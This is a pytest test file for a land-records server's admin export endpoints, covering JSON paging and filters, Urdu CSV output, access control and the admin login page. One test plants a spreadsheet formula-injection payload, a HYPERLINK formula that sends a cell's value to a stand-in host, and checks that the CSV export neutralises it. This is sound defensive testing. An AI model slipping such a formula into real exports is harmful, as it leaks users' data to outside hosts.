"""The central office reads the received entries out of the server: JSON pages and one CSV."""

from __future__ import annotations

import csv
import io
import ssl

import httpx

from tests.sync.conftest import engine_for, enrol, seal


def _sent(office, server) -> None:
    seal(office.ws, office.sup)
    enrol(office.ws, server)
    assert engine_for(office.ws).run_once().ok


def test_received_entries_come_out_as_json_pages_and_filtered(office, server):
    # GIVEN an office whose 6 approved entries reached the server
    _sent(office, server)
    with server.admin_client() as c:
        # WHEN the central office lists them, 4 at a time
        first = c.get("/v1/admin/entries", params={"limit": 4}).json()
        rest = c.get("/v1/admin/entries", params={"limit": 4, "after": first["next"]}).json()
        # THEN every entry comes once, with its office, batch and whole document
        got = first["entries"] + rest["entries"]
        assert len(first["entries"]) == 4 and rest["next"] is None and len(got) == 6
        assert len({e["entry_uuid"] for e in got}) == 6
        doc = got[0]["content"]
        assert doc["register"]["template_id"] == "jamabandi" and doc["values"] and got[0]["state"] == "received"
        assert got[0]["office_uuid"] and got[0]["batch_uuid"]
        # WHEN one is rejected THEN it is found by its state, with the reason
        c.post("/v1/admin/decisions", json={"decisions": [
            {"entry_uuid": got[2]["entry_uuid"], "version": got[2]["version"], "decision": "rejected",
             "reason": "رقبہ غلط ہے"}]}).raise_for_status()
        rejected = c.get("/v1/admin/entries", params={"state": "rejected"}).json()["entries"]
        assert [(e["entry_uuid"], e["reason"]) for e in rejected] == [(got[2]["entry_uuid"], "رقبہ غلط ہے")]
        # AND filters by register kind and office leave out what does not match
        assert c.get("/v1/admin/entries", params={"template": "girdawari"}).json()["entries"] == []
        assert len(c.get("/v1/admin/entries", params={"office": got[0]["office_uuid"]}).json()["entries"]) == 6
        assert c.get("/v1/admin/entries", params={"state": "lost"}).status_code == 422


def test_received_entries_come_out_as_one_csv_with_a_column_per_field(office, server):
    # GIVEN entries on the server
    _sent(office, server)
    with server.admin_client() as c:
        # WHEN the central office downloads the CSV of the jamabandi entries
        r = c.get("/v1/admin/entries.csv", params={"template": "jamabandi"})
    # THEN it is UTF-8 with a byte-order mark (Excel shows the Urdu), one row per entry, the
    # fixed columns then one per field
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    assert "daftar-entries-jamabandi.csv" in r.headers["content-disposition"]
    text = r.content.decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
    assert len(rows) == 6
    assert {"office", "entry_uuid", "mauza", "page_no", "row_no", "state"} <= set(rows[0])
    assert {"khewat_no", "owner"} & set(rows[0]) and rows[0]["mauza"].startswith("موضع")
    assert {row["state"] for row in rows} == {"received"}


def test_an_office_cannot_read_the_central_entries(office, server):
    # GIVEN an enrolled office (its device token)
    _sent(office, server)
    from sync.engine import load_config

    cfg = load_config(office.ws)
    with httpx.Client(base_url=server.url, verify=ssl.create_default_context(cafile=server.ca),
                      headers={"Authorization": f"Bearer {cfg.device_token}"},
                      timeout=30) as c:
        # WHEN it asks for every office's entries THEN it is refused
        assert c.get("/v1/admin/entries").status_code in (401, 403)
        assert c.get("/v1/admin/entries.csv").status_code in (401, 403)


def test_the_admin_page_signs_in_with_a_form_and_links_each_kind_of_entry_as_csv_without_the_token(office, server):
    import re

    # GIVEN entries on the server and the admin page opened in a browser
    _sent(office, server)
    with httpx.Client(base_url=server.url, verify=ssl.create_default_context(cafile=server.ca), timeout=30) as c:
        # THEN it asks for the administrator token in a form (a token in the address is not taken:
        # it stayed in the browser's history and proxy logs, and every link carried it)
        first = c.get("/admin", params={"token": server.admin}).text
        assert "name='token'" in first and "Received batches" not in first
        assert c.post("/admin/login", data={"token": "not-the-token-000000"}).status_code == 401
        # WHEN signed in
        signed = c.post("/admin/login", data={"token": server.admin}, follow_redirects=True)
        assert signed.status_code == 200 and "Received batches" in signed.text
        # THEN it links the CSV of every entry and of each register kind, plain and for Excel, no token in them
        links = [link for link in re.findall(r"href='([^']+)'", signed.text) if link.startswith("/v1/")]
        assert len(links) == 8 and not any("token" in link for link in links)
        assert server.admin not in signed.text and server.admin not in str(c.cookies.get("daftar_admin"))
        assert sum("excel=1" in link for link in links) == 4
        got = c.get(links[1].replace("&amp;", "&"))  # jamabandi, the browser's sign-in (a cookie) carried
        assert got.status_code == 200 and got.content.decode("utf-8").count("\n") == 7  # header + 6 rows
        # AND the sign-in reads, never changes: a decision needs the token itself
        assert c.post("/v1/admin/decisions", json={"decisions": []}).status_code == 401
        # AND signed out (the page's form, with its CSRF token), nothing is shown
        (csrf,) = re.findall(r"name='csrf' value='([^']+)'", signed.text)
        assert c.post("/admin/logout", data={"csrf": csrf}).status_code == 200
        assert c.get(links[1].replace("&amp;", "&")).status_code == 401


def test_a_mistyped_register_kind_or_an_unknown_office_is_named_not_an_empty_export(office, server):
    # GIVEN entries on the server
    _sent(office, server)
    with server.admin_client() as c:
        for path in ("/v1/admin/entries", "/v1/admin/entries.csv"):
            # WHEN a register kind is mistyped THEN 400 naming it and the kinds there are (it was an empty result)
            r = c.get(path, params={"template": "jamabndi"})
            assert r.status_code == 400 and r.json()["error"] == "unknown_template", r.text
            assert "template=jamabndi" in r.json()["detail"] and "jamabandi, girdawari, intiqal" in r.json()["detail"]
            # AND an office id no office has
            r = c.get(path, params={"office": "00000000-0000-0000-0000-000000000000"})
            assert r.status_code == 400 and "office=00000000-0000-0000-0000-000000000000" in r.json()["detail"]
            # AND a kind nothing was received of yet is an empty answer, as before
            assert c.get(path, params={"template": "intiqal"}).status_code == 200


def _approved_entry(office, values: dict) -> None:
    """One more approved entry, on a new page of the office's register, with `values`."""
    from sqlalchemy import select

    from records import services
    from records.models import Entry

    with office.ws.session() as s:
        reg = s.get(Entry, office.entry_ids[0]).register_id
        page = services.add_page(s, office.ws.images, actor=office.clerk, register_id=reg,
                                 data=b"\x89PNG another page", name="p9.png").page_id
        eid = services.add_entry(s, actor=office.clerk, register_id=reg, page_id=page, values=values)
        services.transition(s, actor=office.clerk, entry_ids=[eid], action="submit")
        services.transition(s, actor=office.sup, entry_ids=[eid], action="approve")
        assert s.scalar(select(Entry.state).where(Entry.id == eid)) == "approved"


def _csv(server, **params) -> dict[str, dict]:
    """The server's CSV of received entries, by owner."""
    with server.admin_client() as c:
        r = c.get("/v1/admin/entries.csv", params=params)
    assert r.status_code == 200, r.text
    rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8").lstrip("\ufeff"))))
    return {row["khewat_no"]: row for row in rows}


def test_the_central_csv_never_runs_an_offices_value_as_a_formula_and_keeps_areas_as_text_for_excel(office, server):
    # GIVEN an entry whose values an office typed start with = + - @, beside the areas (1-5) and
    # shares (1/2) of the others, all on the server
    formula = '=HYPERLINK("http://example.invalid/?"&A1,"open")'
    _approved_entry(office, {"khewat_no": "99", "owner": formula, "remarks": "@SUM(A1:A9)",
                             "area": "+2-0", "share": "-1/2"})
    _sent(office, server)
    # WHEN the central office downloads the CSV
    rows = _csv(server, template="jamabandi")
    # THEN no cell starts a formula: each such value has an apostrophe before it (Excel ran them)
    bad = rows["99"]
    assert (bad["owner"], bad["remarks"], bad["area"], bad["share"]) == (
        "'" + formula, "'@SUM(A1:A9)", "'+2-0", "'-1/2")
    assert not [v for row in rows.values() for v in row.values() if v[:1] in ("=", "+", "-", "@")]
    # AND the other values are as the office wrote them
    assert (rows["40"]["area"], rows["40"]["share"]) == ("1-5", "1/2")
    # WHEN it asks for the CSV for Excel
    rows = _csv(server, template="jamabandi", excel=1)
    # THEN areas and shares (Excel made dates of them) and the formulas are ="..." text
    assert (rows["40"]["area"], rows["40"]["share"], rows["40"]["year"]) == ('="1-5"', '="1/2"', '="2019-20"')
    assert rows["99"]["owner"] == '="' + formula.replace('"', '""') + '"'
    assert rows["99"]["remarks"] == '="@SUM(A1:A9)"'
    assert rows["40"]["owner"] == "محمد اسلم ولد غلام رسول"
